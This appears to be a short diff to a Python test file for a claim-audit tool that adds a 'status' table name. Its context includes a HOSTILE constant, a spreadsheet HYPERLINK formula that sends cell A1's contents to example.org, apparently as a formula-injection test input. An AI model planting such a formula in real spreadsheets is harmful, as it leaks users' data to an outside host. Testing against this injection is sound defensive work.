@@ -15,7 +15,7 @@ from claimaudit.audit import Audit
 from small_audit import SLUG, edit_row, write_small_audit
 
 HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"click")'
-NAMES = ("claims", "findings", "matches", "verdicts", "ledger")
+NAMES = ("claims", "findings", "matches", "verdicts", "ledger", "status")
 
 
 @pytest.fixture
